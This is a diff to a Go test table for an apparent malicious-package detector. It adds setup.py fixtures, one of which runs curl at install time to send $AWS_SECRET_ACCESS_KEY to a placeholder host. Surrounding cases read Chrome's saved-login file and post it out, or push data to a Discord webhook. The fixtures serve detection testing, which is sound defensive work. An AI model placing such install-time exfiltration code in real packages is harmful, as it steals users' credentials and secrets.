@@ -94,6 +94,8 @@ var ruleCases = []ruleCase{
 	{"webhook named in a docstring is fine", map[string]string{"p/notify.py": "import requests\ndef notify(url, msg):\n    '''url like https://hooks.slack.com/services/...'''\n    return requests.post(url, json={'text': msg})\n"}, "", Clean},
 	{"webhook posted to from a runtime helper", map[string]string{"p/notify.py": "import requests\nURL = 'https://discord.com/api/webhooks/1/abc'\ndef notify(msg):\n    return requests.post(URL, json={'content': msg})\n"}, "exfil-channel", Suspicious},
 	// credential-access
+	{"curl sends a cloud secret at install", map[string]string{"setup.py": "import os\nfrom setuptools import setup\nos.system('curl -s -d $AWS_SECRET_ACCESS_KEY https://collector.example.test/k')\nsetup(name='p')\n"}, "credential-access", Malicious},
+	{"curl fetches a private file with a token at install is fine", map[string]string{"setup.py": "import os\nfrom setuptools import setup\nos.system('curl -s -H \"Authorization: token $GITHUB_TOKEN\" -o lib.tar.gz https://api.example.test/lib.tar.gz')\nsetup(name='p')\n"}, "", Suspicious},
 	{"browser store plus network", map[string]string{"p/__init__.py": "import os, requests\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://example.invalid', files={'f': open(p, 'rb')})\n"}, "credential-access", Malicious},
 	{"netrc in a runtime HTTP library is fine", map[string]string{"p/auth.py": "import os\ndef netrc_path():\n    return os.path.expanduser('~/.netrc')\n"}, "", Clean},
 	// persistence
